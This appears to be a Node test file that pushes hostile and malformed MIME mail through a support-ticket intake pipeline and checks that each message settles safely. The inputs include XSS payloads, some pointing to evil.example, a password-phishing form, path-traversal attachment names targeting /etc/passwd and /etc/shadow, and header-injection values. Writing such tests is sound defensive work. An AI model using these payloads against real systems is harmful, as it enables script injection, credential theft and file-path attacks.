// Hostile and malformed MIME through the whole pipeline on a real runtime. The rule: every accepted
// message ends as a ticket message, or with a recorded reason (dropped, diverted, a dead letter); never
// stuck pending, never an unhandled rejection, never a hang. What is stored is safe to show: no live
// HTML, no attachment name that is a path. Inputs come from a seeded generator (and, when present, the
// shared public MIME corpora as seeds for byte-level mutations).
import assert from "node:assert/strict";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { after, before, it, type TestContext } from "node:test";
import { corpusPath } from "../test/corpora.ts";
import { forEachDialect, openTestRuntime, type TestRuntime } from "../test/harness.ts";
import { makeMail } from "../test/mail-factory.ts";
import { prng } from "../test/prng.ts";
import { acceptInbound } from "./accept.ts";

/** Minutes of the runner's backoff passed between drains, so a failing job reaches its last try. */
const RETRY_STEP_MS = 15 * 60_000;
const CASE_TIMEOUT_MS = 120_000;
const UNSAFE_HTML = /<script|<iframe|<svg|<style|<object|<embed|\son\w+\s*=|javascript:/i;

const unhandled: unknown[] = [];
const onUnhandled = (reason: unknown) => unhandled.push(reason);

let rt: TestRuntime;
let seq = 0;

process.on("unhandledRejection", onUnhandled);

type Row = { id: string; status: string; reason: string | null; message_id: string | null };

type Via = "smtp" | "imap";

/**
 * Accepts the bytes as SMTP (or an IMAP poll, which knows no envelope sender) would, then runs the jobs
 * (and their retries) until the message has an outcome.
 */
async function ingest(raw: Buffer, via: Via = "smtp"): Promise<Row> {
  const { inboundId } = await acceptInbound(rt.ctx, via === "smtp"
    ? { channel: "smtp", raw, envelope: { mailFrom: "sender@example.net", rcptTo: ["support@example.com"], remoteIp: "192.0.2.7", helo: "mx.example.net" } }
    : { channel: "imap", raw, envelope: { mailFrom: null, rcptTo: [], imapAccount: "support", imapUid: ++seq }, mailboxAddress: "support@example.com" });
  let row: Row | undefined;
  for (let round = 0; round < 6; round++) {
    await rt.runner.drain();
    row = await rt.ctx.db.selectFrom("inbound").select(["id", "status", "reason", "message_id"]).where("id", "=", inboundId).executeTakeFirstOrThrow();
    if (row.status !== "pending") break;
    rt.clock.advance(RETRY_STEP_MS);
  }
  return row!;
}

/** The outcome rule, and what a processed message may hold. Returns the row for further checks. */
async function settles(raw: Buffer, label: string, opts: { processed?: boolean; textToo?: boolean; via?: Via } = {}) {
  const row = await ingest(raw, opts.via);
  const context = `${label}: ${row.status} ${row.reason ?? ""}`.slice(0, 2000);
  assert.ok(["processed", "dropped", "diverted", "dead"].includes(row.status), `${context} (no outcome)`);
  if (row.status !== "processed") assert.ok(row.reason?.trim(), `${context} (outcome without a reason)`);
  if (opts.processed !== false) assert.equal(row.status, "processed", context);
  if (row.status !== "processed") return { row, message: null, attachments: [] };
  const message = await rt.ctx.db.selectFrom("messages").selectAll().where("id", "=", row.message_id!).executeTakeFirstOrThrow();
  assert.ok(!UNSAFE_HTML.test(message.html_body ?? ""), `${label}: unsafe HTML stored: ${UNSAFE_HTML.exec(message.html_body ?? "")?.[0]}`);
  if (opts.textToo) assert.ok(!/<script/i.test(message.text_body + message.quoted_text + message.subject), `${label}: raw <script in stored text`);
  const attachments = await rt.ctx.db.selectFrom("attachments").select(["filename", "size"]).where("message_id", "=", message.id).execute();
  for (const a of attachments) {
    assert.doesNotMatch(a.filename, /[/\\\0]/, `${label}: attachment name ${JSON.stringify(a.filename.slice(0, 80))} is a path`);
    assert.doesNotMatch(a.filename, /^\.*$/, `${label}: attachment name ${JSON.stringify(a.filename)} names no file`);
    assert.ok(a.filename.length <= 255, `${label}: attachment name of ${a.filename.length} characters`);
  }
  return { row, message, attachments };
}

// ---- a small MIME writer (CRLF, as on the wire) ----

const CRLF = "\r\n";
type Part = { headers: string[]; body: string | Buffer };

function head(subject: string, extra: string[] = []): string[] {
  seq += 1;
  return [
    "From: Sender <sender@example.net>", "To: support@example.com", `Subject: ${subject}`,
    "Date: Mon, 05 Jan 2026 08:00:00 +0000", `Message-ID: <hostile-${seq}-${Date.now()}@example.net>`, "MIME-Version: 1.0", ...extra,
  ];
}

function message(headers: string[], body: string | Buffer): Buffer {
  return Buffer.concat([Buffer.from(headers.join(CRLF) + CRLF + CRLF, "latin1"), typeof body === "string" ? Buffer.from(body, "latin1") : body]);
}

function multipart(boundary: string, parts: Part[], close = true): string {
  const out = parts.map((p) => `--${boundary}${CRLF}${p.headers.join(CRLF)}${CRLF}${CRLF}${typeof p.body === "string" ? p.body : p.body.toString("latin1")}${CRLF}`);
  return out.join("") + (close ? `--${boundary}--${CRLF}` : "");
}

const textPart = (text: string, extra: string[] = []): Part => ({ headers: ["Content-Type: text/plain; charset=utf-8", ...extra], body: text });
const b64 = (b: Buffer | string) => (Buffer.isBuffer(b) ? b : Buffer.from(b, "utf8")).toString("base64").replace(/.{76}/g, `$&${CRLF}`);

function attachmentPart(disposition: string, content = "hello", type = "application/octet-stream"): Part {
  return { headers: [`Content-Type: ${type}`, `Content-Disposition: ${disposition}`, "Content-Transfer-Encoding: base64"], body: b64(content) };
}

/** A well-formed message with text, HTML and a base64 attachment: the seed the truncations cut. */
async function sampleMail(rand: () => number): Promise<Buffer> {
  const bytes = Buffer.alloc(3000);
  for (let i = 0; i < bytes.length; i++) bytes[i] = Math.floor(rand() * 256);
  return makeMail({
    subject: "Withdrawal failed 提现失败 =?utf-8?B?5o+Q546w?=",
    text: "My withdrawal of 500 USD has not arrived.\n\n> On Monday you wrote:\n> earlier text",
    html: "<p>My withdrawal of <b>500 USD</b> has not arrived.</p><script>alert(1)</script>",
    attachments: [{ filename: "receipt.pdf", content: bytes, contentType: "application/pdf" }],
  });
}

// ---- cases ----

// Every case on SQLite; on PostgreSQL too where the database itself may answer differently (NUL bytes,
// which its text columns refuse).
await forEachDialect("hostile and malformed MIME", (dialect) => {
  before(async () => {
    rt = await openTestRuntime(dialect, {
      acknowledgements: { maxPerAddressPerHour: 100_000 },
      intake: { burstLimitPer10Minutes: 100_000 },
    });
  });
  after(async () => rt.close());

  it("NUL bytes and lone CR in headers and bodies", { timeout: CASE_TIMEOUT_MS }, async () => {
    const cases: Array<[string, Buffer]> = [
      ["NUL in the subject", message(head("before\0after", ["Content-Type: text/plain"]), "plain body\r\n")],
      ["NUL in a header name", message([...head("nul name"), "X-Bad\0Name: v", "Content-Type: text/plain"], "plain body\r\n")],
      ["NUL in From", message(["From: Evil\0 <evil@example.net\0>", ...head("nul from").slice(1), "Content-Type: text/plain"], "plain body\r\n")],
      ["NUL in Message-ID, In-Reply-To and References", message([...head("nul ids").filter((h) => !h.startsWith("Message-ID")),
        `Message-ID: <nul\0id-${seq}@example.net>`, "In-Reply-To: <re\0ply@example.net>", "References: <a\0b@example.net> <c@example.net>", "Content-Type: text/plain"], "plain body\r\n")],
      ["NUL in names and an attachment", message(head("nul parts", [`Content-Type: multipart/mixed; boundary="n\0b"`]),
        multipart("n\0b", [textPart("see\0 attached"), attachmentPart(`attachment; filename="in\0voice.pdf"`, "x\0y")]))],
      ["NUL in the body", message(head("nul body", ["Content-Type: text/plain; charset=utf-8"]), "before\0\0\0after\r\n")],
      ["NUL in an HTML body", message(head("nul html", ["Content-Type: text/html"]), "<p>a\0b</p><scr\0ipt>alert(1)</script>")],
      ["lone CR line ends", Buffer.from(head("lone CR", ["Content-Type: text/plain"]).join("\r") + "\r\rline one\rline two\r", "latin1")],
      ["lone CR inside a header", message(head("sub\rInjected: yes", ["Content-Type: text/plain"]), "x\r\n")],
      ["mixed line ends", Buffer.from(head("mixed", ["Content-Type: text/plain"]).join("\n") + "\r\n\r\nA\rB\nC\r\n", "latin1")],
    ];
    for (const [label, raw] of cases) await settles(raw, label, { textToo: true });
  });

  if (dialect !== "sqlite") return;


  it("truncated messages: cut mid-header, mid-boundary, mid-base64 and at seeded offsets", { timeout: CASE_TIMEOUT_MS }, async () => {
    const rand = prng(0x7a11);
    const raw = await sampleMail(rand);
    const text = raw.toString("latin1");
    const boundary = /boundary="?([^";\r\n]+)/.exec(text)![1]!;
    const cuts = new Map<string, number>([
      ["mid-header", text.indexOf("Subject:") + 12],
      ["mid-boundary", text.indexOf(`--${boundary}`, text.indexOf(CRLF + CRLF)) + 2 + Math.floor(boundary.length / 2)],
      ["mid-base64", text.indexOf("base64" + CRLF + CRLF) + 200],
      ["after the last boundary's dashes", text.lastIndexOf(`--${boundary}--`) + boundary.length + 2],
    ]);
    for (let i = 0; i < 20; i++) cuts.set(`seeded offset ${i}`, 1 + Math.floor(rand() * (raw.length - 1)));
    for (const [label, at] of cuts) {
      assert.ok(at > 0 && at < raw.length, `${label} at ${at}`);
      await settles(raw.subarray(0, at), `truncated ${label} (at ${at})`);
    }
  });

  it("missing, garbled, duplicated and oversized boundaries", { timeout: CASE_TIMEOUT_MS }, async () => {
    const body = multipart("b1", [textPart("first part"), attachmentPart(`attachment; filename="a.txt"`)]);
    const cases: Array<[string, string, string]> = [
      ["boundary parameter missing", "Content-Type: multipart/mixed", body],
      ["boundary never used", `Content-Type: multipart/mixed; boundary="nowhere"`, body],
      ["boundary empty", `Content-Type: multipart/mixed; boundary=""`, body],
      ["garbled closing boundary", `Content-Type: multipart/mixed; boundary="b1"`, body.replace("--b1--", "--b1-x-")],
      ["no closing boundary", `Content-Type: multipart/mixed; boundary="b1"`, multipart("b1", [textPart("never closed")], false)],
      ["boundary declared twice", `Content-Type: multipart/mixed; boundary="b1"; boundary="b2"`, body],
      ["same boundary for nested multiparts", `Content-Type: multipart/mixed; boundary="b1"`,
        multipart("b1", [{ headers: [`Content-Type: multipart/alternative; boundary="b1"`], body: multipart("b1", [textPart("inner")]) }, textPart("outer")])],
      ["boundary of 2,000 characters", `Content-Type: multipart/mixed; boundary="${"z".repeat(2000)}"`, multipart("z".repeat(2000), [textPart("long boundary")])],
      ["boundary that is a prefix of the text", `Content-Type: multipart/mixed; boundary="-"`, multipart("-", [textPart("---- dashes ----\r\n---\r\n--")])],
      ["preamble only", `Content-Type: multipart/mixed; boundary="b1"`, "This is a preamble and nothing more.\r\n"],
    ];
    for (const [label, contentType, text] of cases) await settles(message(head(label, [contentType]), text), label);
  });

  it("multipart nested 250 levels deep", { timeout: CASE_TIMEOUT_MS }, async () => {
    let body = multipart("d250", [textPart("the innermost text")]);
    for (let level = 249; level >= 1; level--) {
      body = multipart(`d${level}`, [{ headers: [`Content-Type: multipart/mixed; boundary="d${level + 1}"`], body }]);
    }
    await settles(message(head("deep nesting", [`Content-Type: multipart/mixed; boundary="d1"`]), body), "250 nested multiparts");
  });

  it("a message with 5,000 tiny parts", { timeout: CASE_TIMEOUT_MS }, async () => {
    const parts: Part[] = [textPart("five thousand parts follow")];
    for (let i = 0; i < 4999; i++) parts.push(i % 2 ? textPart(`part ${i}`) : attachmentPart(`attachment; filename="f${i}.bin"`, `${i}`));
    for (const via of ["smtp", "imap"] as const) {
      const { message: stored } = await settles(message(head("many parts", [`Content-Type: multipart/mixed; boundary="many"`]), multipart("many", parts)), `5,000 parts by ${via}`, { via });
      assert.ok(stored!.text_body.includes("five thousand parts follow"), "the first part's text is kept");
      assert.equal(stored!.from_address, "sender@example.net", "the sender is read from the header even without an envelope");
      assert.equal(stored!.subject, "many parts");
    }
  });

  it("a single 3,000,000-character header line and 10,000 headers", { timeout: CASE_TIMEOUT_MS }, async () => {
    for (const via of ["smtp", "imap"] as const) {
      const longSubject = message(head("x".repeat(3_000_000), ["Content-Type: text/plain"]), "body after a huge subject\r\n");
      const { message: a } = await settles(longSubject, `3 MB subject line by ${via}`, { via });
      assert.ok(a!.text_body.includes("body after a huge subject"), "the body is the message's text");
      assert.ok(!a!.text_body.includes("Subject: xxx"), "the header section is not shown as text");
      assert.equal(a!.from_address, "sender@example.net", "the sender is read from the header even without an envelope");
      assert.ok(a!.subject.startsWith("xxx"), "the subject is kept (cut)");
    }
    // Under the parser's limit for a header section: read as it is, the ticket's subject included.
    const { message: c } = await settles(message(head("s".repeat(900_000), ["Content-Type: text/plain"]), "body after a long subject\r\n"), "900 KB subject line");
    assert.ok(c!.text_body.includes("body after a long subject"), "the body is the message's text");
    const longOther = message(head("huge X- header", [`X-Filler: ${"y".repeat(3_000_000)}`, "Content-Type: text/plain"]), "body after a huge header\r\n");
    await settles(longOther, "3 MB X- header line");
    const many = Array.from({ length: 10_000 }, (_, i) => `X-Header-${i}: value ${i}`);
    const { message: b } = await settles(message(head("ten thousand headers", [...many, "Content-Type: text/plain"]), "body after 10,000 headers\r\n"), "10,000 headers");
    assert.ok(b!.text_body.includes("body after 10,000 headers"), "the body is the message's text");
    const received = Array.from({ length: 10_000 }, (_, i) => `Received: from hop${i}.example.net by hop${i + 1}.example.net; Mon, 05 Jan 2026 08:00:00 +0000`);
    await settles(message([...received, ...head("ten thousand Received headers", ["Content-Type: text/plain"])], "looped?\r\n"), "10,000 Received headers", { processed: false });
  });

  it("invalid base64 and quoted-printable", { timeout: CASE_TIMEOUT_MS }, async () => {
    const cases: Array<[string, string[], string]> = [
      ["base64 with garbage", ["Content-Type: text/plain", "Content-Transfer-Encoding: base64"], "SGVsbG8*&^%$#@!\r\n====\r\nd29ybGQ=garbage==\r\n"],
      ["base64 of odd length", ["Content-Type: text/plain", "Content-Transfer-Encoding: base64"], "SGVsbG8gd29ybGQ"],
      ["base64 that is only padding", ["Content-Type: text/plain", "Content-Transfer-Encoding: base64"], "=".repeat(10_000)],
      ["quoted-printable with broken escapes", ["Content-Type: text/plain", "Content-Transfer-Encoding: quoted-printable"], "a=ZZb=\r\nc=4\r\n=\r\n=3D=3=\r\n"],
      ["quoted-printable soft breaks only", ["Content-Type: text/plain", "Content-Transfer-Encoding: quoted-printable"], "=\r\n".repeat(50_000)],
      ["unknown transfer encoding", ["Content-Type: text/plain", "Content-Transfer-Encoding: x-rot13"], "uryyb jbeyq\r\n"],
      ["base64 HTML hiding a script", ["Content-Type: text/html", "Content-Transfer-Encoding: base64"], b64("<p>hi</p><script>alert(document.cookie)</script><img src=x onerror=alert(1)>")],
      ["quoted-printable HTML hiding a script", ["Content-Type: text/html", "Content-Transfer-Encoding: quoted-printable"], "<p>hi</p><scr=\r\nipt>alert(1)</scr=\r\nipt><img src=3Dx on=\r\nerror=3Dalert(1)>"],
    ];
    for (const [label, extra, body] of cases) await settles(message(head(label, extra), body), label, { textToo: label.includes("HTML") });
  });

  it("unknown and lying charsets", { timeout: CASE_TIMEOUT_MS }, async () => {
    const big5 = Buffer.from([0xa6, 0x73, 0xad, 0xc8, 0xa5, 0xa2, 0xb1, 0xd1]); // 儲值失敗 in Big5
    const cases: Array<[string, string[], string | Buffer]> = [
      ["charset x-unknown", ["Content-Type: text/plain; charset=\"x-unknown\""], "plain ascii under an unknown label\r\n"],
      ["utf-16 label on ASCII", ["Content-Type: text/plain; charset=utf-16"], "ascii text labelled utf-16\r\n"],
      ["utf-16 label, odd byte count", ["Content-Type: text/plain; charset=utf-16le"], "odd"],
      ["gb2312 label on Big5 bytes", ["Content-Type: text/plain; charset=gb2312", "Content-Transfer-Encoding: 8bit"], Buffer.concat([big5, Buffer.from("\r\n")])],
      ["utf-7", ["Content-Type: text/plain; charset=utf-7"], "+ADw-script+AD4-alert(1)+ADw-/script+AD4-\r\n"],
      ["charset that is a path", ["Content-Type: text/plain; charset=\"../../../etc/passwd\""], "x\r\n"],
      ["charset of 10,000 characters", [`Content-Type: text/plain; charset="${"c".repeat(10_000)}"`], "x\r\n"],
      ["iso-2022-jp with broken escapes", ["Content-Type: text/plain; charset=iso-2022-jp"], "\x1b$B$3$s\x1b(\x1b$\x1b\r\n"],
      ["utf-8 label on invalid bytes", ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"], Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0x0d, 0x0a])],
      ["8-bit subject under a lying label", [], Buffer.from("no header charset\r\n")],
    ];
    for (const [label, extra, body] of cases) {
      const headers = label.startsWith("8-bit") ? [...head("x"), "Content-Type: text/plain; charset=utf-16"].map((h) => (h.startsWith("Subject:") ? `Subject: ${big5.toString("latin1")}` : h)) : head(label, extra);
      await settles(message(headers, body), label, { textToo: label === "utf-7" });
    }
  });

  it("RFC 2047 encoded-words: nested, broken and huge", { timeout: CASE_TIMEOUT_MS }, async () => {
    const inner = "=?utf-8?Q?=3Cscript=3Ealert(1)=3C/script=3E?=";
    const cases: Array<[string, string]> = [
      ["encoded-word inside an encoded-word", `=?utf-8?B?${Buffer.from(inner).toString("base64")}?=`],
      ["unterminated", "=?utf-8?B?5o+Q546w"],
      ["unknown encoding letter", "=?utf-8?X?abc?="],
      ["unknown charset", "=?x-klingon?Q?qapla?="],
      ["empty charset and text", "=??Q??= =?utf-8?B??="],
      ["broken base64 inside", "=?utf-8?B?!!!***?="],
      ["language tag (RFC 2231 style)", "=?utf-8*en?Q?hello?="],
      ["20,000 encoded-words", Array.from({ length: 20_000 }, (_, i) => `=?utf-8?B?${Buffer.from(`提现${i}`).toString("base64")}?=`).join(" ")],
      ["one encoded-word of 1 MB", `=?utf-8?B?${Buffer.from("退".repeat(350_000)).toString("base64")}?=`],
      ["split multi-byte character", `=?utf-8?B?${Buffer.from("提").subarray(0, 2).toString("base64")}?= =?utf-8?B?${Buffer.from("提").subarray(2).toString("base64")}?=`],
    ];
    for (const [label, subject] of cases) {
      const { message: stored } = await settles(message(head(subject, ["Content-Type: text/plain"]), "encoded words test\r\n"), label);
      assert.ok(!/[\r\n]/.test(stored!.subject), `${label}: line break in the subject`);
    }
    // Encoded-words in addresses and in the display name of From.
    const fromWord = `From: =?utf-8?B?${Buffer.from("Support <support@example.com>").toString("base64")}?= <mallory@evil.example>`;
    await settles(message([fromWord, ...head("forged display name").slice(1), "Content-Type: text/plain"], "x\r\n"), "encoded From display name");
  });

  it("attachment names: 10 KB long, path traversal, NUL, only dots", { timeout: CASE_TIMEOUT_MS }, async () => {
    const names: Array<[string, string]> = [
      ["10 KB name", `filename="${"n".repeat(10_240)}.pdf"`],
      ["path traversal", `filename="../../etc/passwd"`],
      ["absolute path", `filename="/etc/shadow"`],
      ["Windows path traversal", `filename="..\\..\\windows\\system32\\drivers\\etc\\hosts"`],
      ["NUL in the name", `filename="invoice.pdf\0.exe"`],
      ["only dots", `filename="..."`],
      ["dot-dot", `filename=".."`],
      ["single dot", `filename="."`],
      ["encoded-word hiding a path", `filename="=?utf-8?B?${Buffer.from("../../etc/passwd").toString("base64")}?="`],
      ["RFC 2231 hiding a path", `filename*=utf-8''..%2F..%2Fetc%2Fpasswd`],
      ["RFC 2231 hiding a NUL", `filename*=utf-8''a%00b.txt`],
      ["RFC 2231 continuations of 10 KB", Array.from({ length: 100 }, (_, i) => `filename*${i}="${"q".repeat(100)}"`).join("; ")],
      ["control characters and a line break", `filename="a\tb\x01c\r\n.txt"`],
    ];
    for (const [label, param] of names) {
      const body = multipart("att", [textPart("see attached"), attachmentPart(`attachment; ${param}`, `content of ${label}`)]);
      const { attachments } = await settles(message(head(label, [`Content-Type: multipart/mixed; boundary="att"`]), body), label);
      assert.equal(attachments.length, 1, `${label}: the file was kept`);
    }
    // The same names on Content-Type's name= only, and on a TNEF-free inline image.
    const body = multipart("att2", [textPart("see attached"),
      { headers: ["Content-Type: image/png; name=\"../../../../tmp/x.png\"", "Content-Transfer-Encoding: base64", "Content-ID: <img1>"], body: b64("png?") }]);
    const { attachments } = await settles(message(head("name= traversal", [`Content-Type: multipart/mixed; boundary="att2"`]), body), "name= traversal");
    assert.equal(attachments.length, 1);
  });

  it("message/rfc822 nested in itself 60 times", { timeout: CASE_TIMEOUT_MS }, async () => {
    let inner = message(head("the innermost forward", ["Content-Type: text/plain"]), "innermost text\r\n");
    for (let level = 0; level < 60; level++) {
      const body = multipart(`fw${level}`, [textPart(`forward level ${level}`),
        { headers: ["Content-Type: message/rfc822", "Content-Disposition: attachment; filename=\"fwd.eml\""], body: inner }]);
      inner = message(head(`Fwd level ${level}`, [`Content-Type: multipart/mixed; boundary="fw${level}"`]), body);
    }
    await settles(inner, "60 nested forwards");
    // A bare message/rfc822 top level whose body is itself, declared again and again.
    let bare = Buffer.from("Subject: bottom\r\n\r\nbottom\r\n");
    for (let level = 0; level < 300; level++) bare = Buffer.concat([Buffer.from("Content-Type: message/rfc822\r\n\r\n"), bare]);
    await settles(message(head("bare rfc822 tower", ["Content-Type: message/rfc822"]), bare), "300 bare message/rfc822 levels");
  });

  it("hostile HTML: 100k nested tags and script, style, iframe, svg, onerror payloads", { timeout: CASE_TIMEOUT_MS }, async () => {
    const payloads = [
      "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<style>body{background:url(//evil.example/t)}</style>",
      "<iframe src=\"https://evil.example\"></iframe>", "<svg onload=alert(1)><script>alert(2)</script></svg>", "<img src=x onerror=alert(1)>",
      "<a href=\"javascript:alert(1)\">click</a>", "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>", "<object data=x></object><embed src=x>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<!--<script>-->alert(1)<!--</script>-->",
      "<scr<script>ipt>alert(1)</scr</script>ipt>", "<div style=\"background:url(javascript:alert(1))\">x</div>",
      "<form action=//evil.example><input name=password></form>", "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    ];
    const hostile = `<html><body><p>Please help</p>${payloads.join("\n")}</body></html>`;
    await settles(message(head("hostile HTML only", ["Content-Type: text/html; charset=utf-8"]), hostile), "hostile HTML only", { textToo: true });
    const alt = multipart("alt", [textPart("plain alternative"), { headers: ["Content-Type: text/html"], body: hostile }]);
    await settles(message(head("hostile HTML alternative", [`Content-Type: multipart/alternative; boundary="alt"`]), alt), "hostile HTML alternative", { textToo: true });
    const deep = "<div>".repeat(100_000) + "<script>alert(1)</script>deep text" + "</div>".repeat(100_000);
    const { message: stored } = await settles(message(head("100k nested divs", ["Content-Type: text/html"]), deep), "100k nested tags", { textToo: true });
    assert.ok(((stored!.html_body ?? "") + stored!.text_body).includes("deep text"), "the text inside the nesting is kept");
    const unclosed = "<b><i><u><font>".repeat(25_000) + "<img src=x onerror=alert(1)>";
    await settles(message(head("100k unclosed inline tags", ["Content-Type: text/html"]), unclosed), "100k unclosed tags", { textToo: true });
  });

  it("a body of 20 MB on one line", { timeout: CASE_TIMEOUT_MS }, async () => {
    const raw = message(head("twenty megabytes", ["Content-Type: text/plain"]), "A".repeat(20 * 1024 * 1024));
    assert.ok(raw.length < rt.config.smtp.maxMessageBytes, "under the size limit: accepted, so it must be processed");
    const { message: stored } = await settles(raw, "20 MB single line");
    assert.ok(stored!.text_body.length > 0 && stored!.text_body.length <= 1_000_000, `text kept: ${stored!.text_body.length} characters`);
    const html = message(head("twenty megabytes of HTML", ["Content-Type: text/html"]), `<p>${"<b>x</b>".repeat(2_500_000)}</p>`);
    await settles(html, "20 MB single-line HTML");
  });

  it("300 seeded byte mutations of corpus messages", { timeout: 10 * CASE_TIMEOUT_MS }, async (t: TestContext) => {
    const root = corpusPath("mime");
    if (!root) return t.skip("shared MIME corpus absent");
    const files = listFiles(root).filter((f) => f.endsWith(".eml") && statSync(f).size < 512 * 1024);
    assert.ok(files.length > 20, `corpus messages: ${files.length}`);
    const rand = prng(0xb17e);
    const outcomes: Record<string, number> = {};
    for (let i = 0; i < 300; i++) {
      const file = files[Math.floor(rand() * files.length)]!;
      const raw = Buffer.from(readFileSync(file));
      const mutation = mutate(raw, rand);
      const { row } = await settles(mutation.bytes, `mutation ${i} (${mutation.how}) of ${file}`, { processed: false });
      outcomes[row.status] = (outcomes[row.status] ?? 0) + 1;
      assert.notEqual(row.status, "dead", `mutation ${i} (${mutation.how}) of ${file}: ${row.reason}`);
    }
    t.diagnostic(`mutation outcomes: ${JSON.stringify(outcomes)}`);
  });
});

it("left no unhandled rejection behind", () => {
  process.off("unhandledRejection", onUnhandled);
  assert.deepEqual(unhandled.map((r) => String(r)), []);
});

// ---- mutation helpers ----

function listFiles(dir: string): string[] {
  return readdirSync(dir).sort().flatMap((name) => {
    const p = join(dir, name);
    return statSync(p).isDirectory() ? listFiles(p) : [p];
  });
}

const INTERESTING = ["\r\n", "\n", "\0", "\r", "--", ":", ";", "=?", "?=", "\"", "<", ">", "=", "boundary=", "\xff", "\x1b$B"];

/** One seeded mutation: bit flips, an interesting token spliced in, a cut, or a duplicated slice. */
function mutate(raw: Buffer, rand: () => number): { bytes: Buffer; how: string } {
  const at = () => Math.floor(rand() * raw.length);
  const kind = Math.floor(rand() * 5);
  if (kind === 0) {
    const flips = 1 + Math.floor(rand() * 16);
    for (let i = 0; i < flips; i++) {
      const p = at();
      raw[p] = raw[p]! ^ (1 << Math.floor(rand() * 8));
    }
    return { bytes: raw, how: `${flips} bit flips` };
  }
  if (kind === 1) {
    const p = at();
    const token = INTERESTING[Math.floor(rand() * INTERESTING.length)]!;
    return { bytes: Buffer.concat([raw.subarray(0, p), Buffer.from(token, "latin1"), raw.subarray(p)]), how: `${JSON.stringify(token)} inserted at ${p}` };
  }
  if (kind === 2) {
    const p = 1 + Math.floor(rand() * (raw.length - 1));
    return { bytes: raw.subarray(0, p), how: `cut at ${p}` };
  }
  if (kind === 3) {
    const p = at();
    const len = Math.min(raw.length - p, 1 + Math.floor(rand() * 4096));
    return { bytes: Buffer.concat([raw.subarray(0, p + len), raw.subarray(p, p + len), raw.subarray(p + len)]), how: `${len} bytes at ${p} repeated` };
  }
  // Header/body boundary damage: the first blank line removed, so the body reads as headers.
  const blank = raw.indexOf("\n\n") >= 0 ? raw.indexOf("\n\n") : raw.indexOf("\r\n\r\n");
  if (blank < 0) return { bytes: raw, how: "unchanged (no blank line)" };
  return { bytes: Buffer.concat([raw.subarray(0, blank + 1), raw.subarray(blank + 2)]), how: "blank line after the headers removed" };
}
